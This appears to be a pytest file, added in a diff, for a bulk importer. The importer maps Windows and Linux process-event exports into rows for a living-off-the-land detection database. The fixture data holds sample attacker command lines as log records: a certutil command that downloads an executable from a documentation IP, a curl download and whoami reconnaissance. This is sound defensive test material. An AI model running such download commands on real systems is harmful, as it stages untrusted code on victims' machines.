@@ -0,0 +1,154 @@
+"""The bulk importer reads every supported export shape into the same lotl_process_event rows."""
+import gzip
+import json
+import os
+
+import pytest
+
+import bulk_import
+from bulk_import import EVENT_COLUMNS, Loader, iter_rows, map_record
+
+SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
+EVENTS = [
+    {"Computer": "WS-0001", "UtcTime": "2026-01-25 03:33:16.556", "Image": r"C:\Windows\System32\certutil.exe",
+     "CommandLine": "certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe", "User": r"CORP\alice",
+     "CurrentDirectory": "C:\\Users\\alice\\", "ProcessId": "4242", "ParentProcessId": "4100",
+     "ParentImage": r"C:\Windows\System32\cmd.exe", "ParentCommandLine": "cmd.exe",
+     "Hashes": f"SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3,MD5=098F6BCD4621D373CADE4E832627B4F6,SHA256={SHA256.upper()}"},
+    {"Computer": "WS-0002", "UtcTime": "2026-01-25 03:34:00.001", "Image": r"C:\Windows\System32\whoami.exe",
+     "CommandLine": "whoami /all", "ProcessId": "77", "ParentProcessId": "70"},
+]
+NETWORK_EVENT = {"Computer": "WS-0001", "UtcTime": "2026-01-25 03:35:00.000", "Image": r"C:\x.exe",
+                 "DestinationIp": "203.0.113.5"}
+
+
+def flat(event, event_id=1):
+    return dict(event, EventID=event_id)
+
+
+def evtx_json(event, event_id=1):
+    data = {k: v for k, v in event.items() if k != "Computer"}
+    return {"Event": {"System": {"EventID": {"#text": event_id, "#attributes": {"Qualifiers": ""}},
+                                 "Computer": event["Computer"],
+                                 "TimeCreated": {"#attributes": {"SystemTime": "2026-01-25T03:59:59.000000Z"}}},
+                      "EventData": data}}
+
+
+def winlogbeat(event, event_id=1):
+    data = {k: v for k, v in event.items() if k != "Computer"}
+    return {"@timestamp": "2026-01-25T03:59:59.000Z",
+            "winlog": {"event_id": event_id, "computer_name": event["Computer"], "event_data": data}}
+
+
+def xml_event(event, event_id=1):
+    data = "".join(f'<Data Name="{k}">{v.replace("&", "&amp;")}</Data>' for k, v in event.items() if k != "Computer")
+    return (f"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
+            f"<EventID>{event_id}</EventID><TimeCreated SystemTime='2026-01-25T03:59:59.000Z'/>"
+            f"<Computer>{event['Computer']}</Computer></System><EventData>{data}</EventData></Event>")
+
+
+def write_export(tmp_path, shape, compress=False):
+    records = [EVENTS[0], NETWORK_EVENT, EVENTS[1]]
+    event_ids = [1, 3, 1]
+    if shape == "xml":
+        text = "<Events>\n" + "\n".join(xml_event(r, i) for r, i in zip(records, event_ids)) + "\n</Events>\n"
+    elif shape == "evtx_json":
+        text = "[\n" + ",\n".join(json.dumps(evtx_json(r, i)) for r, i in zip(records, event_ids)) + "\n]\n"
+    else:
+        build = {"flat": flat, "winlogbeat": winlogbeat}[shape]
+        text = "\n".join(json.dumps(build(r, i)) for r, i in zip(records, event_ids)) + "\n\n"
+    path = tmp_path / f"{shape}.export{'.gz' if compress else ''}"
+    if compress:
+        with gzip.open(path, "wt", encoding="utf-8") as f:
+            f.write(text)
+    else:
+        path.write_text(text, encoding="utf-8")
+    return str(path)
+
+
+def rows_of(path, fmt="auto"):
+    stats = {"read": 0, "skipped": 0}
+    rows = [(host, {c: v for c, v in row.items() if c != "raw_event"}) for host, row in iter_rows(path, fmt, "imported", stats)]
+    return rows, stats
+
+
+@pytest.mark.parametrize("shape", ["flat", "evtx_json", "winlogbeat", "xml"])
+@pytest.mark.parametrize("compress", [False, True])
+def test_every_export_shape_yields_the_same_rows(tmp_path, monkeypatch, shape, compress):
+    monkeypatch.setattr(bulk_import, "READ_CHUNK", 37)  # JSON array records straddle read boundaries
+    expected, _ = rows_of(write_export(tmp_path, "flat"), "jsonl")
+    rows, stats = rows_of(write_export(tmp_path, shape, compress))
+    assert rows == expected
+    assert stats == {"read": 3, "skipped": 1}  # the Event ID 3 record
+
+
+def test_map_record_columns():
+    host, row = map_record(flat(EVENTS[0]), "imported")
+    assert host == "WS-0001" and set(row) == set(EVENT_COLUMNS) - {"host_id"}
+    assert row["timestamp"] == "2026-01-25 03:33:16"
+    assert row["process_name"] == "certutil.exe" and row["pid"] == 4242 and row["ppid"] == 4100
+    assert row["hash_sha256"] == SHA256
+    assert json.loads(row["raw_event"]) == flat(EVENTS[0])
+
+    host, row = map_record({"image_path": "/usr/bin/curl", "command_line": "curl -O http://x/y", "ProcessId": "n/a"},
+                           "linux-01")
+    assert host == "linux-01" and row["process_name"] == "curl" and row["pid"] is None
+    assert row["hash_sha256"] is None and row["timestamp"]  # no time in the record: import time
+
+    _, row = map_record(evtx_json({"Computer": "WS-9", "Image": r"C:\a.exe"}), "imported")
+    assert row["timestamp"] == "2026-01-25 03:59:59"  # System/TimeCreated when there is no UtcTime
+    assert map_record({"EventID": 1, "Computer": "WS-9"}, "imported") is None
+    assert map_record(flat(EVENTS[0], event_id="5"), "imported") is None
+
+
+class RecordingCursor:
+    def __init__(self, conn):
+        self.conn = conn
+        self.lastrowid = None
+
+    def execute(self, sql, params):
+        if "lotl_host" in sql:
+            self.lastrowid = self.conn.hosts.setdefault(params[0], 100 + len(self.conn.hosts))
+        else:  # LOAD DATA: the file has to exist while the statement runs
+            with open(params[0], encoding="utf-8") as f:
+                self.conn.loaded.append(f.read())
+            self.conn.files.append(params[0])
+
+    def executemany(self, sql, rows):
+        self.conn.inserted.extend(rows)
+
+
+class RecordingConnection:
+    def __init__(self):
+        self.hosts, self.inserted, self.loaded, self.files, self.commits = {}, [], [], [], 0
+
+    def cursor(self):
+        return RecordingCursor(self)
+
+    def commit(self):
+        self.commits += 1
+
+
+def test_loader_resolves_hosts_once_and_writes_column_order():
+    conn = RecordingConnection()
+    loader = Loader(conn)
+    batch = [map_record(flat(event), "imported") for event in EVENTS + EVENTS]
+    loader.write(batch[:3])
+    loader.write(batch[3:])
+    assert conn.hosts == {"WS-0001": 100, "WS-0002": 101} and conn.commits == 2
+    assert [row[0] for row in conn.inserted] == [100, 101, 100, 101]
+    assert conn.inserted[0][EVENT_COLUMNS.index("command_line")] == EVENTS[0]["CommandLine"]
+
+
+def test_load_data_file_escapes_fields():
+    conn = RecordingConnection()
+    _, row = map_record(flat(EVENTS[1]), "imported")
+    row["command_line"] = "cmd /c \"echo a\tb\r\nc\" \\\\srv\\share"
+    Loader(conn, load_data=True).write([("WS-0002", row)])
+
+    line, = conn.loaded[0].splitlines()
+    fields = line.split("\t")
+    assert len(fields) == len(EVENT_COLUMNS)
+    assert fields[EVENT_COLUMNS.index("command_line")] == "cmd /c \"echo a\\tb\\r\\nc\" \\\\\\\\srv\\\\share"
+    assert fields[EVENT_COLUMNS.index("user_name")] == "\\N"
+    assert not os.path.exists(conn.files[0])